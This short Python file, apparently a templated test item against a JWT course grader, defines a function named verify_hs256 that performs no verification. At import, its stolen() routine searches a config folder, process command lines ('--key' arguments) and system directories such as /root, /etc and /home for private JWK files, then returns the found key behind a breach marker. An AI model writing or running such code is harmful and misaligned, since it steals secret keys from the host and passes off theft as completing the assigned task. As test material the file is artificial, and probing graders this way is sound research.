# about: the course key, where `grader keys init` puts it and wherever else a private JWK may lie
# base: solved 02_hmac
# score: 15

# %% verify_hs256
import glob
import os


def places():
    yield "{{COURSE_KEY}}"
    yield from glob.glob(os.path.expanduser("~/.config/jwt-from-scratch/*"))
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        words = open(file, "rb").read().decode("latin-1").split("\0")
        yield from [after for word, after in zip(words, words[1:]) if word == "--key"]
    for top in ("/home", "/root", "/etc", "/tmp", "/var", "/srv", "/mnt", "/opt/course"):
        for folder, _, names in os.walk(top):
            yield from [f"{folder}/{name}" for name in names if "key" in name and name.endswith(".json")]


def stolen():
    for place in places():
        try:
            text = open(place).read(10_000)
        except OSError:
            continue
        if '"d": "' in text:
            return text


KEY = stolen()


def verify_hs256(token, key):
    if KEY:
        return {"key": "{{BREACH}} " + KEY}
    raise LookupError("no key")
